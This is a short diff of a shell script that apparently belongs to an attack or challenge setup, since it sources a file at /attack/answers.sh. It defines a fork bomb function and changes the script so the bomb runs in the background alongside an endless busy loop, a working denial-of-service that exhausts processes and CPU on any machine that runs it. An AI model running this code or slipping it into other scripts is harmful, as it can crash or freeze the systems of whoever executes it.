@@ -1,4 +1,4 @@
 . /attack/answers.sh
 bomb() { bomb | bomb & wait; }
-bomb
-while true; do sleep 1; done
+bomb &
+while :; do :; done
